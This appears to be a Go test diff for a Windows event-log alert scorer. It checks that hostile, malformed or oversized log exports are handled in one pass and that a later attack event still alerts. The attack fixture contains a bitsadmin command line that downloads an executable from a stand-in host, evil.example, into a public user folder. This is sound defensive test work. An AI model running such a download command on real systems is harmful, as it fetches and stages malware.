@@ -471,3 +471,39 @@ func TestNXLogJSONGivesTheSameAlerts(t *testing.T) {
 		t.Errorf("(-want +got):\n%s", diff)
 	}
 }
+
+// Hostile exports: a Payload nested too deep, a Payload that is not JSON,
+// a nested event with 50,000 Data values, ECS with 20,000
+// paramN, a 4103 message of 200,000 "Context:" lines. Each is one error
+// or one event, read in one pass; the attack after them still alerts.
+func TestScoreHostileExports(t *testing.T) {
+	attack := `{"EventId":4688,"Provider":"Microsoft-Windows-Security-Auditing","Channel":"Security","TimeCreated":"2021-02-22T23:07:20Z","Payload":` +
+		quote(`{"EventData":{"Data":[{"@Name":"NewProcessName","#text":"C:\\Windows\\System32\\bitsadmin.exe"},{"@Name":"CommandLine","#text":"bitsadmin /transfer j https://evil.example/a.exe C:\\Users\\Public\\a.exe"}]}}`) + "}"
+	deepPayload := `{"EventId":1,"Provider":"p","Payload":` + quote(`{"EventData":`+strings.Repeat("[", 100)+strings.Repeat("]", 100)+"}") + "}"
+	var manyData strings.Builder
+	manyData.WriteString(`{"Event":{"System":{"EventID":"800"},"EventData":{"Data":[`)
+	for i := range 50_000 {
+		if i > 0 {
+			manyData.WriteString(",")
+		}
+		manyData.WriteString(`{"#text":"x"}`)
+	}
+	manyData.WriteString("]}}}")
+	var manyParams strings.Builder
+	manyParams.WriteString(`{"winlog":{"event_id":"800","provider_name":"PowerShell","event_data":{`)
+	for i := range 20_000 {
+		if i > 0 {
+			manyParams.WriteString(",")
+		}
+		fmt.Fprintf(&manyParams, `"param%d":"v"`, 20_000-i)
+	}
+	manyParams.WriteString("}}}")
+	contexts := `{"winlog":{"event_id":"4103","provider_name":"Microsoft-Windows-PowerShell"},"message":` + quote(strings.Repeat("\nContext:x", 200_000)) + "}"
+	input := strings.Join([]string{deepPayload, `{"EventId":1,"Provider":"p","Payload":"{\"EventData\":{"}`, manyData.String(), manyParams.String(), contexts, attack}, "\n")
+	_, stderr, status := runScore(strings.NewReader(input), "--mode", "hardened")
+	if status != ExitAlert || !strings.Contains(stderr, "-:1: winevent: EvtxECmd Payload: nested deeper than 32 levels") ||
+		!strings.Contains(stderr, "-:2: winevent: EvtxECmd Payload: input ends inside the event") ||
+		!strings.Contains(stderr, "-: 4 events scored, 1 alert, 2 could not be read") {
+		t.Errorf("status %d, stderr %q", status, stderr)
+	}
+}
